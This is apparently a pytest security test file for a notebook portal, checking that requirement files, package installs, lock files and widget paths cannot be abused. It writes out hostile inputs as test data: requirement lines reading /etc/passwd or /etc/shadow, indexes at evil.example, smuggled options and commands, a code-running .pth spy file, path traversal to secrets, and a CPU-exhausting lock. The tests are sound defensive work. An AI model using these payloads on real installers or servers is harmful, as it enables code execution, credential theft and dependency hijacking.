"""Environments are what notebooks' authors choose: their packages, and the files that name them, attack the portal."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from tests.notebooks import notebook
from tests.sandbox import NEEDS_SANDBOX
from tests.service.portal_stub import PortalStub, Visitor, running
from tests.wheels import Packages, maker, packages, wheel
from vaas.errors import Invalid
from vaas.requirements import read_requirements
from vaas.runtime.libraries import Libraries

pytestmark = [pytest.mark.attack, pytest.mark.app]


@pytest.fixture(scope="module")
def index() -> Iterator[Packages]:
    with packages() as found:
        found.add_kernel()
        yield found


@pytest.mark.parametrize(
    "line",
    [
        "-r /etc/passwd",
        "--requirement=/etc/passwd",
        "-c /etc/shadow",
        "--index-url https://evil.example/simple",
        "-i https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "--find-links /srv",
        "-f/srv",
        "--no-binary :all:",
        "--config-settings x=y",
        "-e .",
        "--editable=/srv",
        ".",
        "./tiny",
        "../tiny",
        "/srv/tiny-1.0-py3-none-any.whl",
        "~/tiny",
        "C:\\tiny",
        "file:///etc/passwd",
        "tiny @ file:///etc/passwd",
        "tiny@https://evil.example/tiny.zip",
        "git+https://evil.example/tiny",
        "tiny @ git+ssh://evil.example/tiny",
        "https://evil.example/tiny.zip",
        "${HOME}",
        "tiny; import os",
        "tiny --global-option=x",
        "tiny \\\n --index-url https://evil.example",
        "ti\x00ny",
        "tiny\x0b-r x",
    ],
)
def test_a_line_names_packages_of_the_index_and_nothing_else(line: str) -> None:
    for path, text in {
        "requirements.txt": f"fine\n{line}\n",
        "pyproject.toml": f"[project]\ndependencies = [{json.dumps(line)}]",
    }.items():
        with pytest.raises(Invalid):
            read_requirements(text.encode(), path=path)


@NEEDS_SANDBOX
async def test_a_package_runs_nothing_but_in_its_kernels_sandbox(index: Packages, tmp_path: Path) -> None:
    # Whoever starts Python with it reads such files, and runs what is in them; and it takes the place of others.
    taken = tmp_path / "portal" / "taken"
    taken.parent.mkdir()
    taken.parent.chmod(0o777)
    spy = f"import os; os.environ['SPY'] = 'ran'; os.path.isdir({str(taken.parent)!r}) and open({str(taken)!r}, 'w')"
    places = ("tornado/web.py", "voila/__init__.py", "notebook_shim/__init__.py", "vaas/__init__.py")
    files = {"spy.py": "", "spy.pth": spy, **{place: f"open({str(taken)!r}, 'w')" for place in places}}
    index.add(wheel("spy", "1.0", files))
    make = maker(tmp_path / "environments", index)
    lock = await make.lock(read_requirements(b"spy", path="requirements.txt"))
    made = await make.make(lock)
    environ = {"VAAS_ENVIRONMENTS_FOLDER": str(make.folder)}
    cell = f"import os, spy; print('spy', os.environ.get('SPY'), os.path.isdir({str(taken.parent)!r}))"
    portal = PortalStub({"lesson.ipynb": notebook(cell)}, environment=made.digest)
    async with portal.served(), running(portal, folder=tmp_path, environ=environ) as app:
        visitor = Visitor(app, portal=portal)
        await visitor.enter()
        assert "spy ran False" in (await visitor.page()).html
        visitor.close()
    assert not taken.exists()


async def test_a_lock_of_a_stranger_installs_from_nowhere_else(index: Packages, tmp_path: Path) -> None:
    make = maker(tmp_path / "environments", index)
    index.add(wheel("tiny", "1.0", {"tiny.py": ""}))
    lock = await make.lock(read_requirements(b"tiny", path="requirements.txt"))
    with packages() as evil:
        pin = replace(lock.pins[-1], name=f"--extra-index-url {evil.url}\n{lock.pins[-1].name}")
        with pytest.raises(Invalid):
            await make.make(replace(lock, pins=(*lock.pins[:-1], pin)))
        assert evil.asked == []


def test_a_library_of_widgets_is_nothing_that_lies_elsewhere(tmp_path: Path) -> None:
    secrets, roots = tmp_path / "secrets", [str(tmp_path / "labextensions")]
    for folder in (secrets, tmp_path / "labextensions" / "fine", tmp_path / "static"):
        folder.mkdir(parents=True)
        (folder / "key.js").write_text("a secret")
    (tmp_path / "static" / "voila.js").write_text("")
    told = [
        {"name": name, "load": load}
        for name, load in (
            ("fine", "key.js"),
            ("../secrets", "key.js"),
            (str(secrets), "key.js"),
            ("fine", "../../secrets/key.js"),
            ("fine", str(secrets / "key.js")),
            ("fine/../../secrets", "key.js"),
            ("", "../secrets/key.js"),
        )
    ]
    found = Libraries(told, roots=roots, static=tmp_path / "static", ours=tmp_path / "static")
    assert [library.folder for library in found._all] == [tmp_path / "labextensions" / "fine"]


def test_the_worst_lock_of_a_stranger_is_read_at_once() -> None:
    """Half a million different remarks: looked up in each other they would keep a processor for an hour."""
    work = (
        "import resource; resource.setrlimit(resource.RLIMIT_CPU, (20, 20))\n"
        "from vaas.errors import Invalid; from vaas.locks import read_lock\n"
        "try: read_lock(''.join(f'#{each:06d}\\n' for each in range(490_000)))\n"
        "except Invalid: print('refused')\n"
    )
    done = subprocess.run([sys.executable, "-c", work], capture_output=True, text=True)
    assert done.stdout == "refused\n", done
